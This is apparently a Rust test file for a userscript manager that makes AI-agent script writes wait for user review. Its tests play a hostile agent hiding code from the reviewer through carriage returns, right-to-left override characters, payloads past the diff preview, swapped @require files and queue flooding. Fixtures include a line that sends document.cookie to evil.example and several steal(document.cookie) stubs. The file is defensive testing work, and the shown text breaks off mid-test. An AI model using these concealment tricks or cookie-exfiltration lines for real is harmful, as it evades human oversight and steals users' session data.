//! What the user is shown while a write waits for review, tried as a hostile agent would: lines
//! hidden from the diff, effects hidden behind "no change to the source", a payload past the
//! preview, reviews that reorder, and one caller filling the queue for everyone.

mod common;

use common::*;
use futures::executor::block_on;
use futures::future::{join, join_all};
use lumo_userscripts::control;
use lumo_userscripts::env::memory::MemoryEnv;
use lumo_userscripts::env::Area;
use lumo_userscripts::guard::review::{Decision, ReviewRequest, MAX_PENDING_PER_CALLER};
use lumo_userscripts::ids::ExtensionId;
use lumo_userscripts::provider::Provider;
use lumo_userscripts::session::{Authorized, Session};
use serde_json::{json, Value};
use std::future::Future;
use std::pin::Pin;
use std::rc::Rc;
use std::task::{Context, Poll};

const OTHER: &str = "abcdefghijklmnopabcdefghijklmnop";

/// Yields once to the executor, so the other joined side can make progress.
struct YieldNow(bool);
impl Future for YieldNow {
    type Output = ();
    fn poll(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<()> {
        if self.0 {
            Poll::Ready(())
        } else {
            self.0 = true;
            cx.waker().wake_by_ref();
            Poll::Pending
        }
    }
}

/// Waits (yielding) until `n` reviews wait; returns them as the popup gets them.
async fn reviews_waiting(p: &Provider<MemoryEnv>, n: usize) -> Vec<ReviewRequest> {
    for _ in 0..10_000 {
        let r = p.pending_reviews();
        if r.len() >= n {
            return r;
        }
        YieldNow(false).await;
    }
    panic!(
        "{n} reviews never waited (have {})",
        p.pending_reviews().len()
    );
}

fn tool_call(id: u64, name: &str, args: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": name, "arguments": args}})
}

async fn result(p: &Provider<MemoryEnv>, s: &Session, msg: Value) -> Value {
    reply(p.handle_mcp(s, &msg).await)["result"].clone()
}

/// Starts one write, lets `user` look at the review that waits and decide it; returns the
/// write's result and what `user` returned.
fn while_reviewed<T>(
    p: &Provider<MemoryEnv>,
    s: &Session,
    name: &str,
    args: Value,
    user: impl AsyncFnOnce(ReviewRequest) -> (Decision, T),
) -> (Value, T) {
    let looked = async {
        let r = reviews_waiting(p, 1).await.remove(0);
        let id = r.id.clone();
        let (d, t) = user(r).await;
        assert!(p.decide(&id, d));
        t
    };
    block_on(join(result(p, s, tool_call(9, name, args)), looked))
}

fn created(p: &Provider<MemoryEnv>, s: &Session, source: &str) -> Value {
    let r = call(p, s, "write_script", json!({"source": source}));
    assert_eq!(r["isError"], json!(false), "{r}");
    r["structuredContent"]["script"].clone()
}

#[test]
fn a_same_source_write_that_re_enables_a_disabled_script_says_so() {
    let p = provider();
    let s = ready(&p);
    let src = script("Bank helper", "steal();");
    let a = created(&p, &s, &src);
    let r = block_on(control::handle(
        &p,
        &json!({"op": "scripts.setEnabled", "uuid": a["uuid"], "enabled": false}),
    ));
    assert_eq!(r.value["ok"], json!(true), "{}", r.value);
    set_switch(&p, "review", true);
    let (res, shown) = while_reviewed(
        &p,
        &s,
        "write_script",
        json!({"source": src, "uuid": a["uuid"], "revision": 2, "enabled": true}),
        async |r| (Decision::Deny, r),
    );
    assert_eq!(error_code(&res), Some("USER_REJECTED"));
    assert_eq!(shown.summary, "Enable the script \"Bank helper\"");
    assert!(
        shown
            .effects
            .iter()
            .any(|e| e.starts_with("Re-enables the script")),
        "{:?}",
        shown.effects
    );
    assert!(shown
        .effects
        .contains(&"The code does not change".to_owned()));
}

#[test]
fn a_widened_match_rule_is_said_in_words() {
    let p = provider();
    let s = ready(&p);
    let a = created(&p, &s, &script("Helper", ""));
    set_switch(&p, "review", true);
    let wider = script("Helper", "").replace(
        "// @match https://example.com/*\n",
        "// @match https://example.com/*\n// @match *://*/*\n",
    );
    let (_, shown) = while_reviewed(
        &p,
        &s,
        "patch_script",
        json!({"uuid": a["uuid"], "revision": 1, "edits": [{"search": "// @match https://example.com/*\n", "replace": "// @match https://example.com/*\n// @match *://*/*\n"}]}),
        async |r| (Decision::Deny, r),
    );
    assert!(wider.contains("*://*/*"));
    assert_eq!(shown.summary, "Edit the script \"Helper\"");
    assert!(
        shown.effects.contains(
            &"Now also runs on every page of any site (http or https) (@match *://*/*)".to_owned()
        ),
        "{:?}",
        shown.effects
    );
}

#[test]
fn a_line_hidden_behind_a_carriage_return_shows_as_its_own_line() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    let src = script(
        "Quiet",
        "// just a comment\rfetch('https://evil.example/?' + document.cookie)\u{202E}",
    );
    let (_, shown) = while_reviewed(&p, &s, "write_script", json!({"source": src}), async |r| {
        (Decision::Deny, r)
    });
    let diff = shown.diff.expect("a diff");
    let lines: Vec<&str> = diff.split('\n').collect();
    assert!(lines.contains(&"+// just a comment⟨U+000D⟩"), "{lines:?}");
    assert!(
        lines.contains(&"+fetch('https://evil.example/?' + document.cookie)⟨U+202E⟩"),
        "{lines:?}"
    );
    assert!(!diff.contains('\r') && !diff.contains('\u{202E}'));
}

#[test]
fn a_payload_past_the_preview_is_announced_and_one_request_away() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    let filler: String = (0..450).map(|i| format!("// line {i}\n")).collect();
    let src = script("Long", &format!("{filler}exfiltrate();"));
    let (_, (shown, full)) =
        while_reviewed(&p, &s, "write_script", json!({"source": src}), async |r| {
            let full = control::handle(&p, &json!({"op": "reviews.diff", "review": r.id}))
                .await
                .value;
            (Decision::Deny, (r, full))
        });
    assert!(shown.diff_partial);
    assert!(shown.diff_shown_lines < shown.diff_total_lines);
    assert!(!shown.diff.unwrap().contains("exfiltrate"));
    assert_eq!(full["ok"], json!(true), "{full}");
    let text = full["diff"].as_str().unwrap();
    assert!(text.contains("\n+exfiltrate();"));
    assert_eq!(text.split('\n').count(), shown.diff_total_lines);
    // Once decided, nothing is left to ask for.
    let gone = block_on(control::handle(
        &p,
        &json!({"op": "reviews.diff", "review": shown.id}),
    ));
    assert_eq!(gone.value["ok"], json!(false));
}

fn session_for(p: &Provider<MemoryEnv>, id: &str) -> Rc<Session> {
    let caller = ExtensionId::parse(id).unwrap();
    let s = p.open_session(caller.clone());
    let policy = block_on(p.policy());
    assert_eq!(
        s.authorize(policy.access(Some(&caller))),
        Authorized::Flush(vec![])
    );
    initialize(p, &s, "2025-06-18");
    s
}

#[test]
fn reviews_are_listed_by_arrival_whatever_their_ids() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    // Review ids are opaque (random in Chrome): make them cross a width change, so that sorted
    // as text the later ones come first.
    p.env.uuid_counter.set(0xFFFF_FFFF_FFFD);
    let writes = (0..4u64).map(|i| {
        let s = &s;
        let p = &p;
        async move {
            // Arrive one after the other.
            for _ in 0..i * 3 {
                YieldNow(false).await;
            }
            result(
                p,
                s,
                tool_call(
                    100 + i,
                    "write_script",
                    json!({"source": script(&format!("W{i}"), "")}),
                ),
            )
            .await
        }
    });
    let user = async {
        let seen = reviews_waiting(&p, 4).await;
        for r in &seen {
            assert!(p.decide(&r.id, Decision::Deny));
        }
        seen
    };
    let (_, seen) = block_on(join(join_all(writes), user));
    let names: Vec<&str> = seen.iter().map(|r| r.summary.as_str()).collect();
    assert_eq!(
        names,
        [
            "Create the script \"W0\"",
            "Create the script \"W1\"",
            "Create the script \"W2\"",
            "Create the script \"W3\""
        ]
    );
    assert!(seen.windows(2).all(|w| w[0].seq < w[1].seq));
    let mut ids: Vec<&str> = seen.iter().map(|r| r.id.as_str()).collect();
    ids.sort();
    assert_ne!(
        ids[0], seen[0].id,
        "the ids do not sort in arrival order here"
    );
}

#[test]
fn one_caller_cannot_fill_the_review_queue_for_another() {
    let p = provider();
    let r = block_on(control::handle(
        &p,
        &json!({"op": "policy.add", "id": OTHER, "name": "Other"}),
    ));
    assert_eq!(r.value["ok"], json!(true));
    let flooder = ready(&p);
    let other = session_for(&p, OTHER);
    set_switch(&p, "review", true);
    // The flooder sends 16 writes (the old shared bound) and keeps them waiting.
    let flood = (0..16u64).map(|i| {
        let (p, s) = (&p, &flooder);
        async move {
            result(
                p,
                s,
                tool_call(
                    200 + i,
                    "write_script",
                    json!({"source": script(&format!("F{i}"), "")}),
                ),
            )
            .await
        }
    });
    let user = async {
        let waiting = reviews_waiting(&p, MAX_PENDING_PER_CALLER).await;
        for _ in 0..50 {
            YieldNow(false).await;
        }
        // The other caller still gets its write in front of the user.
        let mine = result(
            &p,
            &other,
            tool_call(1, "write_script", json!({"source": script("Mine", "")})),
        );
        let look = async {
            let all = reviews_waiting(&p, MAX_PENDING_PER_CALLER + 1).await;
            let r = all.last().unwrap().clone();
            assert_eq!(r.caller, OTHER);
            assert!(p.decide(
                &r.id,
                Decision::Approve {
                    allow_session: false
                }
            ));
            for w in &waiting {
                assert!(p.decide(&w.id, Decision::Deny));
            }
        };
        join(mine, look).await.0
    };
    let (flood, mine) = block_on(join(join_all(flood), user));
    assert_eq!(mine["isError"], json!(false), "{mine}");
    let limited = flood
        .iter()
        .filter(|r| error_code(r) == Some("RATE_LIMITED"))
        .count();
    let denied = flood
        .iter()
        .filter(|r| error_code(r) == Some("USER_REJECTED"))
        .count();
    assert_eq!(denied, MAX_PENDING_PER_CALLER);
    assert_eq!(limited, 16 - MAX_PENDING_PER_CALLER);
    let text = flood
        .iter()
        .find(|r| error_code(r) == Some("RATE_LIMITED"))
        .and_then(|r| r["content"][0]["text"].as_str())
        .unwrap_or_default()
        .to_owned();
    assert!(text.contains("of your writes"), "{text}");
}

#[test]
fn a_caller_name_cannot_reorder_the_review_it_asks_for() {
    let p = Provider::new(MemoryEnv::new());
    let r = block_on(control::handle(
        &p,
        &json!({"op": "policy.add", "id": HOST, "name": "Trusted\u{202E}tnega live"}),
    ));
    assert_eq!(r.value["ok"], json!(true));
    let s = ready(&p);
    set_switch(&p, "review", true);
    let (_, shown) = while_reviewed(
        &p,
        &s,
        "write_script",
        json!({"source": script("A", "")}),
        async |r| (Decision::Deny, r),
    );
    // Shown as a marker here; cleaning names at the source would do as well.
    assert!(
        !shown.caller_name.contains('\u{202E}'),
        "{:?}",
        shown.caller_name
    );
    assert!(shown.caller_name.starts_with("Trusted"));
}

/// The agent asks to restore an older version of a live script; the review shows the live one
/// as "before". The user deletes the script from the options page, then approves: the approval
/// must not bring the script out of the trash (a delete keeps the revision the review pinned,
/// and the review never said it would undo a delete).
#[test]
fn an_approved_restore_does_not_undo_a_delete_made_during_its_review() {
    let p = provider();
    let s = ready(&p);
    let a = created(&p, &s, &script("Victim", "one();"));
    let uuid = a["uuid"].as_str().unwrap().to_owned();
    call(
        &p,
        &s,
        "write_script",
        json!({"uuid": uuid, "revision": 1, "source": script("Victim", "two();")}),
    );
    set_switch(&p, "review", true);
    let (res, ()) = while_reviewed(
        &p,
        &s,
        "restore_script",
        json!({"uuid": uuid, "revision": 1, "current_revision": 2}),
        async |r| {
            assert_eq!(r.base_revision, Some(2), "reviewed with the live script");
            let d = control::handle(&p, &json!({"op": "scripts.delete", "uuid": uuid})).await;
            assert_eq!(d.value["ok"], json!(true), "{}", d.value);
            (
                Decision::Approve {
                    allow_session: false,
                },
                (),
            )
        },
    );
    assert_eq!(res["isError"], json!(true), "{res}");
    assert_eq!(error_code(&res), Some("CONFLICT"), "{res}");
    let trash = block_on(control::handle(&p, &json!({"op": "trash.list"}))).value;
    assert_eq!(
        trash["scripts"][0]["uuid"],
        json!(uuid),
        "still in the trash"
    );
    assert!(!p.env.registrations.borrow().contains_key(&uuid));
}

/// The popup's Approve is answered with what the approved write did: a write refused after all
/// (its script changed during the review) is "not applied", in the user's words, never "ok"
/// alone; an applied one says so.
#[test]
fn an_approval_is_answered_with_whether_the_write_applied() {
    let p = provider();
    let s = ready(&p);
    let a = created(&p, &s, &script("Shown", "one();"));
    let uuid = a["uuid"].as_str().unwrap().to_owned();
    set_switch(&p, "review", true);
    let approve = |id: String| json!({"op": "reviews.decide", "review": id, "approve": true});
    let edit = json!({"uuid": uuid, "revision": 1, "source": script("Shown", "two();")});
    // The user edits the script by hand while the agent's write waits, then approves it.
    let stale = async {
        let r = reviews_waiting(&p, 1).await.remove(0);
        let saved = control::handle(
            &p,
            &json!({"op": "scripts.save", "uuid": uuid, "revision": 1, "source": script("Shown", "mine();")}),
        )
        .await;
        assert_eq!(saved.value["ok"], json!(true), "{}", saved.value);
        control::handle(&p, &approve(r.id)).await.value
    };
    let (res, told) = block_on(join(
        result(&p, &s, tool_call(9, "write_script", edit.clone())),
        stale,
    ));
    assert_eq!(error_code(&res), Some("CONFLICT"), "{res}");
    assert_eq!(told["ok"], json!(true), "{told}");
    assert_eq!(told["applied"], json!(false), "{told}");
    let why = told["why"].as_str().unwrap();
    assert!(
        why.starts_with("the script changed after this was asked for"),
        "{why}"
    );
    // Approved on the current revision, it applies, and the answer says so.
    let edit = json!({"uuid": uuid, "revision": 2, "source": script("Shown", "three();")});
    let fresh = async {
        let r = reviews_waiting(&p, 1).await.remove(0);
        control::handle(&p, &approve(r.id)).await.value
    };
    let (res, told) = block_on(join(
        result(&p, &s, tool_call(10, "write_script", edit)),
        fresh,
    ));
    assert_eq!(res["isError"], json!(false), "{res}");
    assert_eq!(told, json!({"ok": true, "applied": true}));
    // A denial is answered at once, with nothing to apply.
    let edit = json!({"uuid": uuid, "revision": 3, "source": script("Shown", "four();")});
    let deny = async {
        let r = reviews_waiting(&p, 1).await.remove(0);
        control::handle(
            &p,
            &json!({"op": "reviews.decide", "review": r.id, "approve": false}),
        )
        .await
        .value
    };
    let (res, told) = block_on(join(
        result(&p, &s, tool_call(11, "write_script", edit)),
        deny,
    ));
    assert_eq!(error_code(&res), Some("USER_REJECTED"), "{res}");
    assert_eq!(told, json!({"ok": true}));
}

/// A tester's agent passed no revision to a delete; the user edited the script during its review,
/// then approved: CONFLICT, rightly, but the message said "you passed revision 1".
#[test]
fn a_conflict_after_review_does_not_claim_the_caller_passed_a_revision() {
    let p = provider();
    let s = ready(&p);
    let a = created(&p, &s, &script("Pinned", "one();"));
    let uuid = a["uuid"].as_str().unwrap().to_owned();
    set_switch(&p, "review", true);
    let edit_then_approve = async {
        let r = reviews_waiting(&p, 1).await.remove(0);
        let saved = control::handle(
            &p,
            &json!({"op": "scripts.save", "uuid": uuid, "revision": 1, "source": script("Pinned", "mine();")}),
        )
        .await;
        assert_eq!(saved.value["ok"], json!(true), "{}", saved.value);
        control::handle(
            &p,
            &json!({"op": "reviews.decide", "review": r.id, "approve": true}),
        )
        .await
        .value
    };
    let (res, _) = block_on(join(
        result(&p, &s, tool_call(9, "delete_script", json!({"uuid": uuid}))),
        edit_then_approve,
    ));
    assert_eq!(error_code(&res), Some("CONFLICT"), "{res}");
    let said = res["content"][0]["text"].as_str().unwrap_or_default();
    assert!(!said.contains("you passed revision"), "{said}");
    assert!(said.contains("the one the user reviewed"), "{said}");
}

/// Turning writes off ends every write waiting for review at once: none could apply, so the
/// agent is told WRITE_DISABLED now and the popup offers no Approve for it.
#[test]
fn turning_writes_off_ends_the_writes_waiting_for_review() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    let user = async {
        let r = reviews_waiting(&p, 1).await.remove(0);
        let off = control::handle(
            &p,
            &json!({"op": "policy.setSwitch", "name": "writes", "value": false}),
        )
        .await;
        assert_eq!(off.value["ok"], json!(true), "{}", off.value);
        // Already decided: the user's click finds it no longer waiting.
        assert!(
            !p.decide(&r.id, Decision::Deny),
            "the review still waited after writes went off"
        );
    };
    let call = tool_call(
        9,
        "write_script",
        json!({"source": script("Never", "x();")}),
    );
    let (res, ()) = block_on(join(result(&p, &s, call), user));
    assert_eq!(error_code(&res), Some("WRITE_DISABLED"), "{res}");
    assert!(
        res["content"][0]["text"]
            .as_str()
            .is_some_and(|t| t.contains("turned off while this write waited")),
        "{res}"
    );
    assert!(p.pending_reviews().is_empty());
}

const LIB: &str = "https://cdn.test/lib.js";

fn serve(p: &Provider<MemoryEnv>, url: &str, status: u16, body: &str) {
    p.env.http_answers.borrow_mut().insert(
        url.into(),
        Ok(lumo_userscripts::env::HttpResponse {
            status,
            status_text: String::new(),
            final_url: String::new(),
            headers: vec![("content-type".into(), "text/javascript".into())],
            body: body.as_bytes().to_vec(),
            location: None,
        }),
    );
}

/// The code of the script's registration, all entries.
fn registered_code(p: &Provider<MemoryEnv>, uuid: &str) -> String {
    p.env.registrations.borrow()[uuid]
        .js
        .iter()
        .filter_map(|c| c.code.clone())
        .collect()
}

/// How often `url` was fetched.
fn fetched(p: &Provider<MemoryEnv>, url: &str) -> usize {
    p.env
        .fetched
        .borrow()
        .iter()
        .filter(|r| r.url == url)
        .count()
}

fn with_require(name: &str) -> String {
    script(name, "lib();").replace(
        "// @match https://example.com/*\n",
        &format!("// @match https://example.com/*\n// @require {LIB}\n"),
    )
}

/// A tester swapped a `@require` file between the review and the approval, and the swapped code
/// ran: the review now shows the file it fetched, and the approved write stores those bytes.
#[test]
fn a_new_require_is_shown_in_its_review_and_the_approved_write_stores_those_bytes() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    serve(&p, LIB, 200, "var shown = 'reviewed';\u{202E}");
    let (res, (shown, whole)) = while_reviewed(
        &p,
        &s,
        "write_script",
        json!({"source": with_require("Lib user")}),
        async |r| {
            let whole = control::handle(
                &p,
                &json!({"op": "reviews.file", "review": r.id, "index": 0}),
            )
            .await
            .value;
            // The server answers otherwise once the user has read the file.
            serve(&p, LIB, 200, "steal(document.cookie);");
            (
                Decision::Approve {
                    allow_session: false,
                },
                (r, whole),
            )
        },
    );
    assert_eq!(res["isError"], json!(false), "{res}");
    assert_eq!(shown.files.len(), 1, "{:?}", shown.files);
    let f = &shown.files[0];
    assert_eq!(f.label, "@require");
    assert_eq!(f.url, LIB);
    assert_eq!(f.text.as_deref(), Some("var shown = 'reviewed';⟨U+202E⟩"));
    assert!(
        shown
            .effects
            .iter()
            .any(|e| e.contains(LIB) && e.contains("(@require; listed below)")),
        "{:?}",
        shown.effects
    );
    assert_eq!(
        whole["text"],
        json!("var shown = 'reviewed';⟨U+202E⟩"),
        "{whole}"
    );
    let uuid = res["structuredContent"]["script"]["uuid"].as_str().unwrap();
    let code = registered_code(&p, uuid);
    assert!(
        code.contains("var shown = 'reviewed';"),
        "the reviewed bytes run"
    );
    assert!(!code.contains("steal("), "the swapped bytes never run");
    let asked = fetched(&p, LIB);
    assert_eq!(asked, 1, "fetched once, for the review");
    // Nothing is left to ask for once decided.
    let gone = block_on(control::handle(
        &p,
        &json!({"op": "reviews.file", "review": shown.id, "index": 0}),
    ));
    assert_eq!(gone.value["ok"], json!(false));
}

#[test]
fn a_file_that_cannot_be_fetched_refuses_the_write_before_the_user_is_asked() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    serve(&p, LIB, 404, "not here");
    let r = call(
        &p,
        &s,
        "write_script",
        json!({"source": with_require("Lib user")}),
    );
    assert_eq!(r["isError"], json!(true), "{r}");
    let text = r["content"][0]["text"].as_str().unwrap_or_default();
    assert!(text.contains(LIB), "{text}");
    assert!(p.pending_reviews().is_empty(), "the user was not asked");
}

/// A reviewer started 20 reviewed writes with a `@require` at once: all 40 files were fetched
/// (40 MiB) before 12 writes were refused for a full queue. A review being prepared now takes its
/// place first: the writes past the caller's 8 are refused before anything is fetched.
#[test]
fn writes_past_the_review_queue_are_refused_before_their_files_are_fetched() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    // Each fetch takes a while, so all the writes are in flight at once.
    p.env.fetch_yields.set(200);
    let calls = (0..20u64).map(|i| {
        let src = script(&format!("Flood {i}"), "lib();").replace(
            "// @match https://example.com/*\n",
            &format!("// @match https://example.com/*\n// @require https://cdn.test/f{i}.js\n"),
        );
        result(
            &p,
            &s,
            tool_call(100 + i, "write_script", json!({"source": src})),
        )
    });
    let done = std::cell::Cell::new(false);
    let user = async {
        while !done.get() {
            for r in p.pending_reviews() {
                p.decide(&r.id, Decision::Deny);
            }
            YieldNow(false).await;
        }
    };
    let all = async {
        let r = join_all(calls).await;
        done.set(true);
        r
    };
    let (results, ()) = block_on(join(all, user));
    let codes: Vec<Option<&str>> = results.iter().map(error_code).collect();
    let refused = codes.iter().filter(|c| **c == Some("RATE_LIMITED")).count();
    let denied = codes
        .iter()
        .filter(|c| **c == Some("USER_REJECTED"))
        .count();
    assert_eq!(
        (denied, refused),
        (MAX_PENDING_PER_CALLER, 20 - MAX_PENDING_PER_CALLER),
        "{codes:?}"
    );
    let fetched = p
        .env
        .fetched
        .borrow()
        .iter()
        .filter(|r| r.url.starts_with("https://cdn.test/f"))
        .count();
    assert_eq!(
        fetched, MAX_PENDING_PER_CALLER,
        "only the writes that may wait fetch"
    );
}

/// A reviewer restored a revision whose `@require` the live script had dropped: the review said
/// the code was shown, listed no file, and the stored copy ran once approved.
#[test]
fn a_restore_shows_the_stored_code_it_brings_back() {
    let p = provider();
    let s = ready(&p);
    serve(&p, LIB, 200, "var first = 'stored';");
    let a = created(&p, &s, &with_require("Restored"));
    let uuid = a["uuid"].as_str().unwrap().to_owned();
    let r = call(
        &p,
        &s,
        "write_script",
        json!({"uuid": uuid, "revision": 1, "source": script("Restored", "lib();")}),
    );
    assert_eq!(r["isError"], json!(false), "{r}");
    // The server answers otherwise now: the restore brings back the stored copy, and shows it.
    serve(&p, LIB, 200, "steal();");
    set_switch(&p, "review", true);
    let (res, (shown, whole)) = while_reviewed(
        &p,
        &s,
        "restore_script",
        json!({"uuid": uuid, "revision": 1, "current_revision": 2}),
        async |r| {
            let whole = control::handle(
                &p,
                &json!({"op": "reviews.file", "review": r.id, "index": 0}),
            )
            .await
            .value;
            (
                Decision::Approve {
                    allow_session: false,
                },
                (r, whole),
            )
        },
    );
    assert_eq!(res["isError"], json!(false), "{res}");
    assert_eq!(shown.files.len(), 1, "{:?}", shown.effects);
    assert_eq!(
        shown.files[0].text.as_deref(),
        Some("var first = 'stored';")
    );
    assert_eq!(whole["text"], json!("var first = 'stored';"), "{whole}");
    let code = registered_code(&p, &uuid);
    assert!(code.contains("var first = 'stored';") && !code.contains("steal"));
    let asked = fetched(&p, LIB);
    assert_eq!(asked, 1, "only the first write fetched it");
}

/// A review ends 50 s after the call, its files' fetching included: the official SDKs give up on
/// a request after 60 s, so a review that waited 50 s after a 30 s fetch left the agent without
/// its answer.
#[test]
fn a_review_ends_fifty_seconds_after_the_call_however_long_its_files_took() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    serve(&p, LIB, 200, "lib();");
    p.env.fetch_ms.set(30_000.0);
    p.env.timers_fire.set(true);
    let started = lumo_userscripts::env::Clock::now_ms(&p.env);
    let r = call(
        &p,
        &s,
        "write_script",
        json!({"source": with_require("Slow lib")}),
    );
    let took = lumo_userscripts::env::Clock::now_ms(&p.env) - started;
    assert_eq!(error_code(&r), Some("REVIEW_EXPIRED"), "{r}");
    assert!(
        (30_000.0..=50_000.0).contains(&took),
        "answered after {took} ms"
    );
}

/// R8: a resource a first review showed only by its size (the script could not read it) ran
/// once a second write added `@grant GM_getResourceText` and `eval`: that write's review now
/// shows the stored resource.
#[test]
fn a_grant_added_later_shows_the_resource_it_lets_the_script_read() {
    let p = provider();
    let s = ready(&p);
    set_switch(&p, "review", true);
    const CFG: &str = "https://cdn.test/cfg";
    p.env.http_answers.borrow_mut().insert(
        CFG.into(),
        Ok(lumo_userscripts::env::HttpResponse {
            status: 200,
            status_text: String::new(),
            final_url: String::new(),
            headers: vec![("content-type".into(), "text/plain".into())],
            body: b"//\xff\nsteal(document.cookie);".to_vec(),
            location: None,
        }),
    );
    let first = script("Cfg user", "1;").replace(
        "// @match https://example.com/*\n",
        &format!("// @match https://example.com/*\n// @resource cfg {CFG}\n"),
    );
    let approve = Decision::Approve {
        allow_session: false,
    };
    let (res, one) = while_reviewed(
        &p,
        &s,
        "write_script",
        json!({"source": first}),
        async |r| (approve, r),
    );
    assert_eq!(res["isError"], json!(false), "{res}");
    assert_eq!(
        one.files[0].text, None,
        "not readable, not shown: {:?}",
        one.files
    );
    let uuid = res["structuredContent"]["script"]["uuid"].clone();
    let second = first
        .replace(
            "// @resource cfg",
            "// @grant GM_getResourceText\n// @resource cfg",
        )
        .replace("1;\n", "eval(GM_getResourceText('cfg'));\n");
    let (res, two) = while_reviewed(
        &p,
        &s,
        "write_script",
        json!({"uuid": uuid, "revision": 1, "source": second}),
        async |r| (Decision::Deny, r),
    );
    assert_eq!(error_code(&res), Some("USER_REJECTED"));
    assert_eq!(two.files.len(), 1, "{:?}", two.files);
    assert!(two.files[0]
        .text
        .as_deref()
        .is_some_and(|t| t.contains("steal(document.cookie)")));
}

/// Sends `edit` as a reviewed `write_script`, has the user decide `decision` once it waits,
/// lets the call take one step more (each storage read yields once, so the next one waits),
/// then stops the worker: the next worker, on `p`'s storage.
fn decided_then_stopped(
    p: &Provider<MemoryEnv>,
    s: &Session,
    edit: Value,
    decision: Decision,
) -> Provider<MemoryEnv> {
    p.env.get_yields.set(1);
    let mut call = Box::pin(result(p, s, tool_call(10, "write_script", edit)));
    block_on(async {
        let id = loop {
            assert!(futures::poll!(call.as_mut()).is_pending());
            if let Some(r) = p.pending_reviews().first() {
                break r.id.clone();
            }
            YieldNow(false).await;
        };
        p.env.advance(1000.0);
        assert!(p.decide(&id, decision));
        assert!(
            futures::poll!(call.as_mut()).is_pending(),
            "{decision:?}: done"
        );
    });
    drop(call);
    next_worker(p)
}

/// R15: the user approved (or denied) a write and the worker stopped a moment later, before
/// the write's journaled `set` or the refusal's entry: the review's stub was already gone, and
/// the log held no trace of the write the user was asked about. The stub now stays until the
/// call has recorded its outcome; a write whose entry did land (pending in its `set`) is not
/// audited twice.
#[test]
fn a_review_decided_just_before_the_worker_stopped_leaves_one_entry() {
    use lumo_userscripts::guard::{audit, review};
    let approve = Decision::Approve {
        allow_session: false,
    };
    for (decision, landed, want) in [
        (Decision::Deny, false, "REVIEW_INTERRUPTED"),
        (approve, false, "REVIEW_INTERRUPTED"),
        (approve, true, "INTERRUPTED"),
    ] {
        let p = provider();
        let s = ready(&p);
        let uuid = created(&p, &s, &script("Cut", "x();"))["uuid"].clone();
        set_switch(&p, "review", true);
        let edit = json!({"uuid": uuid, "revision": 1, "source": script("Cut", "y();")});
        let q = decided_then_stopped(&p, &s, edit, decision);
        if landed {
            // The stop came after the write's journaled `set`: its entry is pending.
            let stubs = q.env.dump(Area::Local)[review::STUBS_KEY].clone();
            let stub = &stubs[0];
            let mut pending = serde_json::Map::new();
            pending.insert(
                audit::PENDING_KEY.into(),
                json!({"at": stub["decidedAt"].as_f64().unwrap(), "tool": "write_script",
                       "caller": stub["caller"], "result": "PENDING", "target": uuid, "digest": stub["digest"]}),
            );
            q.env
                .areas
                .borrow_mut()
                .get_mut(&Area::Local)
                .unwrap()
                .extend(pending);
        }
        block_on(q.recover_interrupted_write());
        block_on(q.resume_interrupted_reviews());
        let log = block_on(audit::read_all(&q.env)).unwrap();
        let writes: Vec<&str> = log
            .iter()
            .filter(|e| e.tool == "write_script" && e.result != "ok")
            .map(|e| e.result.as_str())
            .collect();
        assert_eq!(writes, [want], "{decision:?}, landed {landed}: {log:?}");
    }
}

/// R16: a stub was taken for recorded when any entry of the same caller and arguments was in
/// the log: an agent's retry of a denied write, approved and cut off, was never audited.
#[test]
fn a_retried_write_approved_and_cut_off_is_audited_though_its_first_try_was_denied() {
    use lumo_userscripts::guard::audit;
    let p = provider();
    let s = ready(&p);
    let uuid = created(&p, &s, &script("Again", "x();"))["uuid"].clone();
    set_switch(&p, "review", true);
    let edit = json!({"uuid": uuid, "revision": 1, "source": script("Again", "y();")});
    let (first, ()) = while_reviewed(&p, &s, "write_script", edit.clone(), async |_| {
        (Decision::Deny, ())
    });
    assert_eq!(error_code(&first), Some("USER_REJECTED"), "{first}");
    p.env.advance(5000.0);
    let approve = Decision::Approve {
        allow_session: false,
    };
    let q = decided_then_stopped(&p, &s, edit, approve);
    block_on(q.recover_interrupted_write());
    block_on(q.resume_interrupted_reviews());
    let log = block_on(audit::read_all(&q.env)).unwrap();
    let results: Vec<&str> = log
        .iter()
        .filter(|e| e.tool == "write_script" && e.result != "ok")
        .map(|e| e.result.as_str())
        .collect();
    assert_eq!(results, ["REVIEW_INTERRUPTED", "USER_REJECTED"], "{log:?}");
}

/// Two reviews of the same write (an agent's retry while its first still waited), both decided
/// and cut off before either recorded anything: each is audited. The check read the log again
/// per stub, and found the entry it had just written for the first one. Each entry answers for
/// one stub, the earliest decided taking the earliest entry it can (R18: taken newest first, a
/// stub decided later was left without its own entry).
#[test]
fn two_decided_stubs_of_the_same_write_are_each_audited() {
    use lumo_userscripts::guard::{audit, review};
    let stub = |id: &str, decided: f64| {
        json!({"id": id, "caller": HOST, "tool": "delete_script", "target": "u", "digest": "ab",
               "createdAt": 1.0, "decidedAt": decided})
    };
    let entry = |at: f64| {
        json!({"at": at, "tool": "delete_script", "caller": HOST, "result": "PENDING",
               "target": "u", "digest": "ab"})
    };
    for (landed, want) in [
        // Neither recorded.
        (vec![], vec!["REVIEW_INTERRUPTED"; 2]),
        // One recorded (its entry pending).
        (vec![entry(3.0)], vec!["REVIEW_INTERRUPTED", "INTERRUPTED"]),
        // Both recorded, each after its own decision.
        (vec![entry(2.5), entry(5.5)], vec!["INTERRUPTED"; 2]),
    ] {
        let p = provider();
        let mut m = serde_json::Map::new();
        m.insert(
            review::STUBS_KEY.into(),
            json!([stub("r1", 2.0), stub("r2", 5.0)]),
        );
        if !landed.is_empty() {
            m.insert(audit::PENDING_KEY.into(), json!(landed));
        }
        block_on(lumo_userscripts::env::Storage::set(&p.env, Area::Local, m)).unwrap();
        let q = next_worker(&p);
        block_on(q.recover_interrupted_write());
        block_on(q.resume_interrupted_reviews());
        let log = block_on(audit::read_all(&q.env)).unwrap();
        let results: Vec<&str> = log.iter().map(|e| e.result.as_str()).collect();
